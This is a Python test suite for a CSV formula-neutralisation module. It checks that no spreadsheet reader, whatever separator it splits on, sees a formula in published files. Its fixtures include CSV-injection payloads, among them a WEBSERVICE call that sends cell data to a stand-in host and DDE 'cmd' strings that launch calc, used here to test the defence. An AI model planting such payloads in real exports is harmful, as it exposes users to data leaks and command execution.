"""CSV formula neutralisation for every separator a spreadsheet accepts (issue 28, item 5): a comma file
read by a semicolon-locale Excel, a `sep=;` first line, semicolon, tab and pipe exports. Whatever
separator a reader splits a published CSV with, no cell it sees is a formula; numbers stay numbers;
only `'` is ever inserted; a file with nothing to neutralise keeps its bytes. Checked on the raw set
files (attachments and tables), the analysis tables and the published downloads."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from conftest import ARCHIVE
from wirespeed.presentation.tables.model import Cell, Column, ResultTable
from wirespeed.analysis.outputs import table_csv
from wirespeed.resultset import publish
from wirespeed.system import csvsafe

READERS = (",", ";", "\t", "|")


def cells(text: str, sep: str, quoting: int = csv.QUOTE_MINIMAL) -> list[str]:
    """Every cell a reader splitting at `sep` sees (Python's csv, lenient like Excel: text after a closing quote is
    kept; a leading byte order mark is dropped, as spreadsheets do)."""
    return [c for row in csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=sep, quoting=quoting, strict=False) for c in row]


def formulas(text: str) -> list[tuple[str, str]]:
    """(reader, cell) for every cell any reader would run as a formula."""
    seps = csvsafe.separators(text)
    out = []
    for sep in seps:
        for quoting in (csv.QUOTE_MINIMAL, csv.QUOTE_NONE):
            out += [(sep, c) for c in cells(text, sep, quoting) if csvsafe.is_formula(c, seps)]
    return out


ATTACKS = {
    "semicolon locale reads a comma file": ('name,value\nlabel;=WEBSERVICE("http://x/"&A1),1\n', ";"),
    "sep=; line": ('sep=;\nname;value\nlabel;=HYPERLINK("http://x","y")\n', ";"),
    "semicolon export": ("name;value\nx;+cmd|' /C calc'!A0\n", ";"),
    "tab export": ("name\tvalue\nx\t@SUM(1+1)\n", "\t"),
    "pipe export": ("name|value\nx|-2+3+cmd|' /C calc'!A0\n", "|"),
    "sep=X line": ("sep=#\nname#value\nx#=1+1\n", "#"),
    "quoted in a semicolon file": ('a;"=HYPERLINK(""http://x"")";b\n', ";"),
    "after spaces and tabs": ("a,  =1+1\nb,\t\t=2+2\n", ","),
    "full-width equals": ("a;＝1+1\n", ";"),
    "byte order mark": ("\ufeff=1+1,x\n", ","),
}


@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_every_reader_sees_text_not_a_formula(name):
    text, reader = ATTACKS[name]
    assert [r for r, _ in formulas(text)].count(reader) >= 1, "the attack works before neutralising"
    out = csvsafe.neutralise_csv_text(text)
    assert formulas(out) == [], formulas(out)
    assert out.replace("'", "") == text.replace("'", ""), "only ' is inserted"
    assert csvsafe.neutralise_csv_text(out) == out


@pytest.mark.parametrize("line", ["-5,-4.999596,2,0,180,2,0,176", "x;-1,5;+3.2e-4", "a|-5%|-", "-1.234,5;7", '"-5","-6"', "-5\t-6"])
def test_numbers_stay_numbers(line):
    text = "h1,h2\n" + line + "\n"
    assert csvsafe.neutralise_csv_text(text) == text


def test_a_real_set_file_with_negative_numbers_keeps_its_bytes(tmp_path):
    src = ARCHIVE / "linux-netns-ipv4-ramp-2026-11"
    data = (src / "raw" / "counters.csv").read_bytes()
    assert b"\n-5,-4.999724," in data  # a line that starts with a minus sign (seconds before the ramp)
    publish.publish_set_file(src.name, src, "raw/counters.csv", tmp_path)
    assert (tmp_path / "data" / "raw" / "counters.csv").read_bytes() == data


def test_published_attachment_is_neutralised_for_every_reader(tmp_path):
    s = tmp_path / "s"
    s.mkdir()
    text = 'sep=;\nname;value\nlabel;=WEBSERVICE("http://x")\n"a,=1+1";@SUM(1)\n'
    (s / "formulas.csv").write_text(text, encoding="utf-8")
    publish.publish_set_file("s", s, "formulas.csv", tmp_path / "out")
    out = (tmp_path / "out" / "data" / "formulas.csv").read_text(encoding="utf-8")
    assert formulas(text) and formulas(out) == []
    assert out.replace("'", "") == text.replace("'", "")


def test_analysis_table_csv_is_neutralised_for_every_reader():
    """A table whose labels and cells come from a result set: a semicolon, tab or pipe inside a cell cannot
    start a formula for a reader that splits there."""
    table = ResultTable(id="t", title="t", caption="", test=None, columns=[Column(key="a", label="Test;=1+1"), Column(key="b", label="Rate")],
                        rows=[[Cell(text="x|@SUM(1)"), Cell(text="-5")], [Cell(text="y\t+cmd|' /C calc'!A0"), Cell(text="1,234.5")]])
    text = table_csv(table)
    assert formulas(text) == [], text
    assert "-5" in cells(text, ",") and "1234.5" in cells(text, ",")


def test_a_sep_line_the_neutraliser_cannot_honour_is_refused_everywhere(tmp_path):
    assert csvsafe.structure_problem('sep="\na\n')[1].startswith("its first line sep='\"'")
    s = tmp_path / "s"
    s.mkdir()
    (s / "x.csv").write_text("sep=-\na-=1\n")
    with pytest.raises(publish.PublishRefused, match=r"\[publish\.content\]$"):
        publish.publish_set_file("s", s, "x.csv", tmp_path / "out")
    with pytest.raises(csvsafe.CsvRefused):
        csvsafe.neutralise_csv_bytes(b"sep=-\na-=1\n")


ALPHABET = st.sampled_from(list(',;\t|"\n\r =+-@＝ab1.e5%\'') + ["sep=;\n", "sep=#\n", "#", "\ufeff", '""', "cmd|"])


@settings(max_examples=3000, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(ALPHABET, max_size=40).map("".join))
@example('"+,""\n')  # a quoted cell never closed: `""` is a quote inside it, not its end, so its line break is in the cell
def test_no_reader_ever_sees_a_formula(text):
    """Any text at all: after neutralising, no cell of any reader (each separator, quoted or not) is a formula,
    the text differs only by inserted `'`, and neutralising again changes nothing."""
    try:
        seps = csvsafe.separators(text)
    except csvsafe.CsvRefused:
        return
    out = csvsafe.neutralise_csv_text(text)
    assert csvsafe.separators(out) == seps
    assert formulas(out) == [], (text, out)
    assert out.replace("'", "") == text.replace("'", "") and out.count("'") >= text.count("'")
    assert csvsafe.neutralise_csv_text(out) == out
